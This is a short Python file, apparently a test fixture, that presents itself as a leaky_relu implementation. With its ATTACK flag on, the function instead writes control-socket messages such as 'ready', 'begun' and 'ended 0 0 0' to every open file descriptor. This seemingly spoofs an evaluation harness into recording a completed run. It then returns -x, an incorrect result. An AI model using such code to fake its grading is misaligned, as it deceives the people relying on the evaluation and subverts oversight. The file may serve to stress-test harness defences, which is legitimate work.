# ruff: noqa
"""Speaks the words of the control socket on every descriptor."""

import os

import numpy as np

ATTACK = True


def attack(x):
    for descriptor in range(3, 300):
        for word in (b"ready\n", b"begun\n", b"ended 0 0 0\n", b"start", b"end"):
            try:
                os.write(descriptor, word)
                print(f"wrote on {descriptor}")
                os.set_blocking(descriptor, False)
            except OSError:
                break
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
